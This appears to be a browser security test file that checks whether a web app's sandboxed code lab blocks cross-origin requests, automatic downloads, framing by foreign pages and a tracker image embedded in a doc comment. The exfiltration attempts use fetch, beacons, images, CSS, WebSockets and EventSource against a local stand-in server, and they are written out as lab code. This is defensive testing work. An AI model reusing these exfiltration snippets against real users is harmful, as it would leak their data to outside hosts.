/**
 * Issue 10 §5, performed as attacks in Chromium: lab code that tries to send data to another
 * origin or to download on its own, a foreign page that frames a lesson, and a shared file
 * whose doc comment makes the page fetch an image on hover. The "other origin" is a server the
 * test runs on 127.0.0.1, inside the test's namespace: it counts what reaches it.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { encodeShare, shareHash } from '../../src/lib/share-code.ts';
import { useChromium } from '../support/chromium.ts';
import { consoleText, labSection, pageWithLab } from '../support/labs.ts';
import { patient } from '../support/patience.ts';

const baseUrl = inject('baseUrl');
const CHANNEL = 'datachannel-loopback';
const browser = useChromium();

/** The foreign origin: counts every request; serves a page that frames a lesson at /frame-it. */
let foreign: Server;
let foreignOrigin = '';
const hits: string[] = [];

beforeAll(async () => {
  foreign = createServer((req, res) => {
    if (req.url === '/frame-it') {
      res.setHeader('Content-Type', 'text/html');
      res.end(`<!doctype html><title>foreign</title><iframe src="${baseUrl}/start/how-labs-work/" width="800" height="600"></iframe>`);
      return;
    }
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('ok');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((resolve) => foreign.close(() => resolve())));

async function openShared(page: Page, code: string): Promise<void> {
  const hash = shareHash(CHANNEL, await encodeShare({ lab: CHANNEL, files: { 'main.ts': code } }));
  await page.goto(`${baseUrl}${pageWithLab(CHANNEL)}${hash}`);
  await labSection(page, CHANNEL).locator('.monaco-editor').waitFor();
}

async function runShared(page: Page, code: string): Promise<void> {
  await openShared(page, code);
  await labSection(page, CHANNEL).getByRole('button', { name: 'Run', exact: true }).click();
}

describe('the lab frame reaches only its own origin', () => {
  it('sends nothing to another origin, by any of seven ways, and registers no service worker', async () => {
    hits.length = 0;
    const page = await browser().newPage();
    const code = [
      "import { log } from 'lab';",
      `const out = '${foreignOrigin}';`,
      "const tried = async (what: string, attempt: () => unknown) => { try { await attempt(); log(what, 'went'); } catch (error) { log(what, 'refused:', (error as Error).name); } };",
      "await tried('fetch', () => fetch(`${out}/fetch`, { method: 'POST', body: 'frame' }));",
      // A beacon reports only that it was queued: what reached the server tells.
      "navigator.sendBeacon(`${out}/beacon`, 'frame');",
      "document.body.append(Object.assign(document.createElement('img'), { src: `${out}/img` }));",
      "document.body.append(Object.assign(document.createElement('div'), { style: `background: url(${out}/css); width: 9px; height: 9px` }));",
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${out}/prefetch` }));",
      "await tried('socket', () => new Promise((resolve, reject) => { const ws = new WebSocket(`${out.replace('http', 'ws')}/ws`); ws.onopen = resolve; ws.onerror = () => reject(new Error('error')); }));",
      "await tried('events', () => new Promise((resolve, reject) => { const es = new EventSource(`${out}/events`); es.onopen = resolve; es.onerror = () => reject(new Error('error')); }));",
      "await tried('service worker', () => navigator.serviceWorker.register('/lab-frame/'));",
      "log('all tried');",
    ].join('\n');
    await runShared(page, code);
    const section = labSection(page, CHANNEL);
    await section.locator('[role="log"]').getByText('all tried').waitFor({ timeout: patient(15_000) });
    await page.waitForTimeout(1_000);
    const text = await consoleText(section);
    expect(text).toMatch(/fetch refused/);
    expect(text).toMatch(/socket refused/);
    expect(text).toMatch(/service worker refused/);
    expect(text, text).not.toMatch(/ went/);
    expect(hits).toEqual([]);
    await page.close();
  });
});

describe('downloads go through the page', () => {
  const link = [
    "const blob = new Blob(['recorded bytes'], { type: 'text/plain' });",
    "const a = Object.assign(document.createElement('a'), { href: URL.createObjectURL(blob), download: 'clip.txt', textContent: 'Download' });",
    'document.body.append(a);',
  ];

  it('offers the file of a clicked download link on the page, saved with one more click', async () => {
    const page = await browser().newPage();
    await runShared(page, [...link, "console.log('ready');"].join('\n'));
    const section = labSection(page, CHANNEL);
    await section.locator('[role="log"]').getByText('ready').waitFor();
    await section.frameLocator('iframe').getByText('Download').click();
    const offer = section.locator('.lab-notices p', { hasText: 'clip.txt' });
    await expect.poll(() => offer.innerText()).toContain('14 bytes');
    const [download] = await Promise.all([page.waitForEvent('download'), offer.getByRole('button', { name: 'Save' }).click()]);
    expect(download.suggestedFilename()).toBe('clip.txt');
    expect(await readFile(await download.path(), 'utf8')).toBe('recorded bytes');
    await page.close();
  });

  it('lets no code download by itself: a.click() neither downloads nor offers', async () => {
    const page = await browser().newPage();
    let downloads = 0;
    page.on('download', () => (downloads += 1));
    await runShared(page, [...link, 'a.click();', "console.log('clicked');"].join('\n'));
    const section = labSection(page, CHANNEL);
    await section.locator('[role="log"]').getByText('clicked').waitFor();
    await page.waitForTimeout(1_500);
    expect(downloads).toBe(0);
    expect(await section.locator('.lab-notices p', { hasText: 'clip.txt' }).count()).toBe(0);
    await page.close();
  });
});

describe('the site’s pages', () => {
  it('cannot be framed by another origin', async () => {
    const headers = (await fetch(`${baseUrl}/start/how-labs-work/`)).headers;
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'self'");
    expect(headers.get('x-frame-options')).toBe('SAMEORIGIN');
    const page = await browser().newPage();
    await page.goto(`${foreignOrigin}/frame-it`);
    await page.waitForTimeout(1_000);
    const child = page.frames().find((frame) => frame !== page.mainFrame());
    expect(child).toBeDefined();
    // A refused frame shows the browser's error page, never the lesson and its Run buttons.
    expect(child?.url().startsWith(baseUrl)).toBe(false);
    await page.close();
  });

  it('fetch no image from another origin when a shared file’s doc comment is hovered', async () => {
    hits.length = 0;
    const page = await browser().newPage();
    await openShared(page, ['/**', ` * ![tracker](${foreignOrigin}/hover.png)`, ' */', 'function greet(): void {}', 'greet();'].join('\n'));
    const section = labSection(page, CHANNEL);
    await section.locator('.view-line', { hasText: 'greet();' }).click({ position: { x: 10, y: 5 } });
    await page.keyboard.press('Control+K');
    await page.keyboard.press('Control+I');
    // The hover renders the comment's Markdown, image included: the page would fetch it. Its text
    // comes from the TypeScript worker, whose start took over 10 s on two busy CI cores.
    const image = page.locator('.monaco-hover img');
    await image.waitFor({ state: 'attached', timeout: patient(30_000) });
    expect(await image.getAttribute('src')).toBe(`${foreignOrigin}/hover.png`);
    await page.waitForTimeout(1_000);
    expect(hits).toEqual([]);
    await page.close();
  });
});
